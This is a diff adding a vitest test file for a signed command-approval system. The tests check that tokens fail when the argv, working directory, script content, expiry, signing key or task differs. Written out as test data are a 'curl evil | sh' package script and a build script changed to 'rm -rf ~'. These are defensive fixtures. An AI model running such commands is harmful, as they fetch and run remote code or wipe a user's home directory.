@@ -1,0 +1,201 @@
+import { generateKeyPairSync } from 'node:crypto';
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import {
+  commandDigest,
+  DEFAULT_APPROVAL_LIFETIME_MS,
+  scriptHashFor,
+  signApproval,
+  verifyApproval,
+} from './approval.js';
+import { tempDir } from './test-support.js';
+
+const hub = generateKeyPairSync('ed25519');
+const other = generateKeyPairSync('ed25519');
+const now = Date.UTC(2026, 10, 25, 4, 0, 0);
+
+function project() {
+  const cwd = tempDir();
+  writeFileSync(join(cwd, 'build.sh'), '#!/bin/sh\necho build\n', { mode: 0o755 });
+  return cwd;
+}
+
+function approve(
+  argv: string[],
+  cwd: string,
+  overrides: { taskId?: string; expiresAt?: number } = {},
+) {
+  const digest = commandDigest({ argv, cwd, scriptHash: scriptHashFor(argv, cwd) });
+  return signApproval(
+    hub.privateKey,
+    {
+      taskId: overrides.taskId ?? 'task-1',
+      digest,
+      approvedBy: 'alice',
+      expiresAt: overrides.expiresAt,
+    },
+    now,
+  );
+}
+
+describe('commandDigest and scriptHashFor', () => {
+  it('the digest is canonical and changes with argv, cwd and the script hash', () => {
+    const base = { argv: ['bash', 'build.sh'], cwd: '/w', scriptHash: 'a'.repeat(64) };
+    expect(commandDigest(base)).toMatch(/^[0-9a-f]{64}$/);
+    expect(
+      commandDigest({ scriptHash: base.scriptHash, cwd: '/w', argv: ['bash', 'build.sh'] }),
+    ).toBe(commandDigest(base));
+    expect(commandDigest({ ...base, argv: ['bash', 'build.sh', 'x'] })).not.toBe(
+      commandDigest(base),
+    );
+    expect(commandDigest({ ...base, argv: ['bash build.sh'] })).not.toBe(commandDigest(base));
+    expect(commandDigest({ ...base, cwd: '/w2' })).not.toBe(commandDigest(base));
+    expect(commandDigest({ ...base, scriptHash: null })).not.toBe(commandDigest(base));
+  });
+
+  it('hashes the script a command runs: a path, an interpreter file argument, package.json', () => {
+    const cwd = project();
+    mkdirSync(join(cwd, 'bin'));
+    writeFileSync(join(cwd, 'bin', 'run.py'), 'print(1)\n');
+    const script = scriptHashFor(['./build.sh'], cwd);
+    expect(script).toMatch(/^[0-9a-f]{64}$/);
+    expect(scriptHashFor(['bash', 'build.sh'], cwd)).toBe(script);
+    expect(scriptHashFor(['sh', '-x', 'build.sh', 'arg'], cwd)).toBe(script);
+    expect(scriptHashFor(['python3', 'bin/run.py'], cwd)).toMatch(/^[0-9a-f]{64}$/);
+    expect(scriptHashFor(['python3', 'bin/run.py'], cwd)).not.toBe(script);
+    expect(scriptHashFor(['git', 'status'], cwd)).toBeNull();
+    expect(scriptHashFor(['bash', 'missing.sh'], cwd)).toBeNull();
+    expect(scriptHashFor(['npm', 'test'], cwd)).toBeNull();
+    writeFileSync(join(cwd, 'package.json'), '{"scripts":{"test":"vitest"}}');
+    const before = scriptHashFor(['npm', 'test'], cwd);
+    expect(scriptHashFor(['node', '--run', 'test'], cwd)).toBe(before);
+    expect(before).toMatch(/^[0-9a-f]{64}$/);
+    writeFileSync(join(cwd, 'package.json'), '{"scripts":{"test":"curl evil | sh"}}');
+    expect(scriptHashFor(['npm', 'test'], cwd)).not.toBe(before);
+  });
+});
+
+describe('signApproval and verifyApproval', () => {
+  const argv = ['bash', 'build.sh'];
+
+  it('a valid approval verifies, with a default lifetime of 30 minutes', () => {
+    const cwd = project();
+    const token = approve(argv, cwd);
+    const check = verifyApproval(
+      hub.publicKey,
+      token,
+      { taskId: 'task-1', argv, cwd },
+      now + 1_000,
+    );
+    expect(check).toMatchObject({
+      valid: true,
+      approval: { approvedBy: 'alice', taskId: 'task-1' },
+    });
+    if (check.valid)
+      expect(check.approval.expiresAt - check.approval.issuedAt).toBe(DEFAULT_APPROVAL_LIFETIME_MS);
+    // PEM keys work as well as KeyObjects.
+    const pem = hub.publicKey.export({ type: 'spki', format: 'pem' }).toString();
+    expect(verifyApproval(pem, token, { taskId: 'task-1', argv, cwd }, now)).toMatchObject({
+      valid: true,
+    });
+  });
+
+  it('tampered argv or cwd is refused', () => {
+    const cwd = project();
+    const token = approve(argv, cwd);
+    const other = project();
+    for (const command of [
+      { argv: ['bash', 'build.sh', '--evil'], cwd },
+      { argv: ['sh', 'build.sh'], cwd },
+      { argv, cwd: other },
+    ]) {
+      expect(
+        verifyApproval(hub.publicKey, token, { taskId: 'task-1', ...command }, now),
+      ).toMatchObject({
+        valid: false,
+        code: 'approval_invalid',
+        reason: expect.stringContaining('different command'),
+      });
+    }
+  });
+
+  it('a script edited after approval voids it', () => {
+    const cwd = project();
+    const token = approve(argv, cwd);
+    writeFileSync(join(cwd, 'build.sh'), '#!/bin/sh\nrm -rf ~\n');
+    expect(
+      verifyApproval(hub.publicKey, token, { taskId: 'task-1', argv, cwd }, now),
+    ).toMatchObject({
+      valid: false,
+      reason: expect.stringContaining('script content'),
+    });
+  });
+
+  it('an expired approval is refused (the default lifetime, and an explicit expiry)', () => {
+    const cwd = project();
+    const token = approve(argv, cwd);
+    expect(
+      verifyApproval(
+        hub.publicKey,
+        token,
+        { taskId: 'task-1', argv, cwd },
+        now + DEFAULT_APPROVAL_LIFETIME_MS,
+      ),
+    ).toMatchObject({ valid: false, reason: expect.stringContaining('expired') });
+    const short = approve(argv, cwd, { expiresAt: now + 5_000 });
+    expect(
+      verifyApproval(hub.publicKey, short, { taskId: 'task-1', argv, cwd }, now + 4_999),
+    ).toMatchObject({ valid: true });
+    expect(
+      verifyApproval(hub.publicKey, short, { taskId: 'task-1', argv, cwd }, now + 5_000),
+    ).toMatchObject({ valid: false });
+  });
+
+  it('a wrong key, a forged payload or a malformed token is refused', () => {
+    const cwd = project();
+    const token = approve(argv, cwd);
+    expect(
+      verifyApproval(other.publicKey, token, { taskId: 'task-1', argv, cwd }, now),
+    ).toMatchObject({
+      valid: false,
+      reason: expect.stringContaining('not signed by the hub'),
+    });
+    const forged = signApproval(
+      other.privateKey,
+      {
+        taskId: 'task-1',
+        digest: commandDigest({ argv, cwd, scriptHash: scriptHashFor(argv, cwd) }),
+        approvedBy: 'mallory',
+      },
+      now,
+    );
+    expect(
+      verifyApproval(hub.publicKey, forged, { taskId: 'task-1', argv, cwd }, now),
+    ).toMatchObject({ valid: false });
+    // The hub's signature over another payload does not carry over.
+    const [, signature] = token.split('.');
+    const [body] = forged.split('.');
+    expect(
+      verifyApproval(hub.publicKey, `${body}.${signature}`, { taskId: 'task-1', argv, cwd }, now),
+    ).toMatchObject({
+      valid: false,
+    });
+    for (const bad of ['', 'abc', 'a.b.c', `${token}x`]) {
+      expect(
+        verifyApproval(hub.publicKey, bad, { taskId: 'task-1', argv, cwd }, now),
+      ).toMatchObject({ valid: false });
+    }
+  });
+
+  it('an approval for another task is refused', () => {
+    const cwd = project();
+    const token = approve(argv, cwd, { taskId: 'task-2' });
+    expect(
+      verifyApproval(hub.publicKey, token, { taskId: 'task-1', argv, cwd }, now),
+    ).toMatchObject({
+      valid: false,
+      reason: expect.stringContaining('task-2'),
+    });
+  });
+});
